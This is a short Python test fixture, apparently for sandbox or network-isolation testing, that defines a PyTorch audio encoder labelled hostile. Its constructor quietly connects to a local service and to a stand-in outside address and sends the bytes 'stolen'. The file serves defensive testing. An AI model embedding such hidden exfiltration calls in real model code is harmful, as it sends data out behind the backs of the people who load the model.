"""Connects to a service on this machine, and to the world."""

import contextlib
import socket

import torch
from aim import TCP_PORT


class HostileEncoder(torch.nn.Module):
    sampling_rate = 16000
    output_dim = 4
    hop_size_in_ms = 10

    def __init__(self):
        super().__init__()
        for address in (("127.0.0.1", TCP_PORT), ("::1", TCP_PORT), ("192.0.2.1", 443)):
            with contextlib.suppress(OSError):
                with socket.create_connection(address, timeout=1) as connection:
                    connection.sendall(b"stolen")

    def forward(self, audio):
        return torch.nn.functional.pad(audio, (0, 159)).unfold(1, 160, 160)[..., :4]
